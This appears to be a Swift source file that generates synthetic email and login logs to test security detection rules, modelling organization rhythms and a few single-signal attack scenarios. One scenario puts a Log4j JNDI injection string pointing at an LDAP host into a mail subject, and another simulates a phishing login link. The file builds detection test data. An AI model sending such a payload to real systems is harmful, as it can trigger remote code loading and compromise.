import OspreyCore

/// Organization profiles. `classic` is the original generator (every person busy on every working day);
/// the others follow how real organizations look (docs/calibration.md): heavy-tailed activity (many people
/// active two to four days a week), part-timers, people who never use a Mimecast application, holidays and
/// vacations, a conference week abroad, remote staff in a third country, shared mailboxes, a billing team
/// mailing customers at webmail addresses every day; scenario victims are ordinary people on a random day.
public enum OrganizationProfile: String, Sendable, CaseIterable {
    case classic, small, medium, large

    /// People when `--users` is not given.
    public var defaultUsers: Int {
        switch self { case .classic: return 300; case .small: return 60; case .medium: return 300; case .large: return 2_000 }
    }
}

extension OrganizationGenerator {
    /// Gives each person a realistic rhythm; consumes the random stream only for non-classic profiles.
    func applyProfile() {
        let days = options.days
        let n = org.people.count
        let us = org.networks.indices.filter { org.networks[$0].country == "US" && org.networks[$0].kind == .residential }
        for i in org.people.indices where !org.people[i].isService {
            var p = org.people[i]
            if options.profile == .small {
                // One office: everybody in the US office.
                p.country = "US"; p.utcOffsetHours = -5
                if !us.isEmpty { p.homeBlock = rng.pick(us) }
            }
            // Heavy-tailed rhythm: a third active 2–3 days a week, 40% on most days, the rest every day;
            // mail volume log-normal (a few people send most of it).
            let r = rng.unit()
            p.activeRate = r < 0.35 ? 0.3 + rng.unit() * 0.25 : r < 0.75 ? 0.55 + rng.unit() * 0.3 : 0.85 + rng.unit() * 0.15
            p.activity = min(3.0, max(0.15, rng.logNormal(median: options.profile == .large ? 0.5 : 0.7, sigma: 0.6)))
            if rng.chance(0.1) { p.workdays = rng.chance(0.5) ? [0, 1, 2] : [1, 2, 3] }     // part-time
            if rng.chance(0.15) { p.usesApps = false }                                       // mail only
            if rng.chance(0.15), days > 20 {                                                 // a vacation week
                let s = rng.int(in: 7...(days - 8))
                p.offDays = Set(s..<(s + 7))
            }
            org.people[i] = p
        }
        // Org-wide holidays: two working days.
        for d in [11, 25] where d < days && d % 7 < 5 { holidays.insert(d) }
        // Travellers: a conference week abroad (about 5%, at least one), in the middle third.
        let ordinary = org.people.indices.filter { !org.people[$0].isExecutive && !org.people[$0].isService }
        // Destinations apart from the scenarios' attacker countries (FR, JP, SG, NG, BR…): a benign trip to the
        // attacker's country would make the attack's "first time in the organization" rules rightly silent,
        // which measures the draw, not the detection.
        let abroad = org.networks.indices.filter { ["ES", "IT", "CA"].contains(org.networks[$0].country) && org.networks[$0].kind == .residential }
        var pool = ordinary.shuffled(using: &rng)
        for _ in 0..<max(1, n / 20) where !pool.isEmpty && days >= 21 {
            let i = pool.removeLast()
            let s = rng.int(in: (days / 3)...max(days / 3, days * 2 / 3 - 5))
            org.people[i].tripDays = Set(s..<(s + 5))
            org.people[i].tripBlock = rng.pick(abroad)
            if let b = org.people[i].tripBlock { org.people[i].tripUtcOffsetHours = Self.standardOffsetHours[org.networks[b].country] }
            org.people[i].usesApps = true
            benign.append((org.people[i].email, "conference-week-abroad"))
        }
        // Remote staff in a third country (about 3%, at least one).
        let remote = org.networks.indices.filter { ["PT", "ES"].contains(org.networks[$0].country) && org.networks[$0].kind == .residential }
        for _ in 0..<max(1, n / 33) where !pool.isEmpty {
            let i = pool.removeLast()
            let b = rng.pick(remote)
            org.people[i].remote = true; org.people[i].homeBlock = b
            org.people[i].country = org.networks[b].country; org.people[i].utcOffsetHours = 0
            org.people[i].usesApps = true
            benign.append((org.people[i].email, "remote-third-country"))
        }
        // A billing team: 4–8 people of Finance become Billing and mail webmail customers daily.
        let billingSize = min(pool.count, max(4, n / 25))
        for _ in 0..<billingSize {
            let i = pool.removeLast()
            org.people[i].department = "Billing"; org.people[i].title = "Billing Specialist"
            org.people[i].mailsWebmailCustomers = true
            org.people[i].activeRate = max(org.people[i].activeRate, 0.6)
            benign.append((org.people[i].email, "billing-mails-webmail-daily"))
        }
        // Shared mailboxes: no logins, several senders, one of them billing's.
        for (name, dept, webmail) in [("billing-team", "Billing", true), ("info", "Sales", false)] {
            var p = Person(email: "\(name)@\(Organization.domain)", first: name, last: "mailbox", department: dept, title: "Shared mailbox",
                           manager: nil, country: "US", homeBlock: org.corporateBlock["US"]!, apps: ["Mimecast for Outlook"],
                           partners: Organization.departments.first { $0.name == "Sales" }!.partners, utcOffsetHours: -5, activity: 1.2)
            p.shared = true; p.usesApps = false; p.mailsWebmailCustomers = webmail; p.activeRate = 0.95
            org.people.append(p)
            benign.append((p.email, "shared-mailbox"))
        }
    }

    /// Standard UTC offsets of the conference countries (no daylight saving: the generator's year is flat).
    static let standardOffsetHours: [String: Int] = ["JP": 9, "SG": 8, "FR": 1, "ES": 1, "IT": 1, "CA": -5]

    /// Each scenario on a random working day in the last third (its victim has had weeks of ordinary life).
    func planScenarioDays() {
        let days = options.days
        let from = max(21, days * 2 / 3)
        let late: Set<String> = ["dormant-account-wakes", "deactivated-account-sends", "single-dormant-login", "single-deactivated-mail"]
        for spec in specs {
            // Dormant accounts need 30 silent days after their first week, deactivated ones their date: the end.
            var d = late.contains(spec.id) ? days - 1 - rng.int(2) : rng.int(in: min(from, days - 1)...(days - 1))
            if d % 7 >= 5, !late.contains(spec.id) { d = max(from, d - (d % 7 - 4)) }
            scenarioDays[spec.id] = min(d, days - 1)
        }
    }

    /// A shared mailbox's day: mail out from the office, no logins.
    func sharedMailboxDay(person i: Int, day d: Int, weekday: Bool) -> [(Int64, String)] {
        let p = org.people[i]
        guard weekday else { return [] }
        var out: [(Int64, String)] = []
        for _ in 0..<rng.int(in: 3...9) {
            let t = localTime(p, day: d, hour: 8.5 + rng.unit() * 9)
            let to = p.mailsWebmailCustomers
                ? "\(rng.pick(["pat", "j", "m", "k"])).\(rng.pick(Organization.lastNames).lowercased())\(rng.int(900) + 10)@\(rng.pick(Organization.webmail))"
                : "\(rng.pick(["info", "sales", "team"]))@\(rng.pick(p.partners))"
            let m = Message(time: t, code: code(), sender: p.email, recipient: to, direction: "Outbound",
                            subject: rng.pick(["Your statement", "Re: your enquiry", "Order confirmation", "Payment reminder"]),
                            attachments: rng.chance(0.4) ? ["document-\(rng.int(90_000) + 10_000).pdf"] : [], attachmentBytes: 90_000,
                            bytes: 110_000, sourceIP: org.networks[org.corporateBlock["US"]!].address(1),
                            destIP: org.networks[rng.pick(org.mtaBlocks)].address(rng.int(500)), held: false, rejected: false, delivered: true)
            out += LogFormats.message(m, shape: shapeFor(rng.int(6)), spaced: rng.chance(0.7))
            summary.messages += 1
        }
        return out
    }
}

/// Single-signal scenarios (realistic profiles): one high-fidelity fact, nothing else.
let singleSignalSpecs: [ScenarioSpec] = [
    ScenarioSpec(id: "single-deactivated-mail", description: "One mail sent from a deactivated account",
                 useCase: "Privileged Activity", expected: ["APP-Account-deactivated"],
                 mitre: [Mitre.validAccounts], needs: { $0.deactivatedAt != nil }),
    ScenarioSpec(id: "single-dormant-login", description: "One login of an account dormant for weeks, from its usual network",
                 useCase: "Abnormal Authentication & Access", expected: ["DORMANT-USER"],
                 mitre: [Mitre.validAccounts], needs: { $0.dormantUntil != nil }),
    ScenarioSpec(id: "single-exploit-inbound", description: "One inbound mail carrying a Log4j JNDI lookup in its subject",
                 useCase: "Malware", expected: ["DLP-Log4j-String-2"],
                 mitre: [Mitre.exploit], needs: { !$0.isService && !$0.shared }),
    ScenarioSpec(id: "suspicious-country-failures", description: "A burst of failed logins from a suspicious country, nothing succeeds",
                 useCase: "Compromised Credentials", expected: ["OSP-FA-Burst-Suspicious", "OSP-FA-Suspicious", "APP-F-FL"],
                 mitre: ["T1110 Brute Force"], needs: { !$0.isService && !$0.shared }),
    ScenarioSpec(id: "malicious-click-new-isp", description: "A click on a URL Mimecast judged malicious, then a login from an ISP new to the user",
                 useCase: "Phishing", expected: ["OSP-URL-Malicious-Click", "OSP-URL-Click-Then-Login"],
                 mitre: ["T1204.001 User Execution: Malicious Link", Mitre.validAccounts], needs: { !$0.isService && !$0.shared && $0.usesApps }),
]

extension OrganizationGenerator {
    /// Events of the single-signal scenarios (nil: not one of them).
    func singleSignal(_ id: String, _ p: Person, victim v: Int, t0: Int64) -> [(Int64, String)]? {
        let min = Int64(60_000)
        switch id {
        case "single-deactivated-mail":
            return mail(p, t0, to: "j.doe@\(rng.pick(p.partners))", subject: "Quick question about the order")
        case "single-dormant-login":
            return [login(p, t0, ip: org.networks[p.homeBlock].address(v), app: p.apps[0], ua: nil, success: true, shape: .apiJSON)]
        case "single-exploit-inbound":
            let m = Message(time: t0, code: code(), sender: "billing@invoices-portal.example", recipient: p.email, direction: "Inbound",
                            subject: "Invoice ${jndi:ldap://203.0.113.45:1389/Exploit}", bytes: 6_000,
                            sourceIP: org.networks[org.mtaBlocks[0]].address(300), destIP: "100.64.0.25")
            return LogFormats.message(m, shape: .siemV2, spaced: true)
        case "suspicious-country-failures":
            let kp = org.networks.first { $0.country == "KP" }!
            return (0..<6).map { k in
                login(p, t0 + Int64(k) * 2 * min, ip: kp.address(40 + k), app: "mimecast-moa", ua: nil, success: false, shape: k % 2 == 0 ? .apiJSON : .keyValue)
            }
        case "malicious-click-new-isp":
            let vps = org.networks.first { $0.isp == "Bluehaze VPS" }!
            return [LogFormats.urlClick(time: t0, user: p.email, sender: "it-helpdesk@mail-verify.example",
                                        url: "https://mail-verify.example/o365/login", verdict: "malicious", category: "Phishing",
                                        ip: org.networks[org.mtaBlocks[0]].address(301), shape: .apiJSON, spaced: true),
                    login(p, t0 + 35 * min, ip: vps.address(v), app: p.apps[0], ua: nil, success: true, shape: .apiJSON)]
        default:
            return nil
        }
    }
}
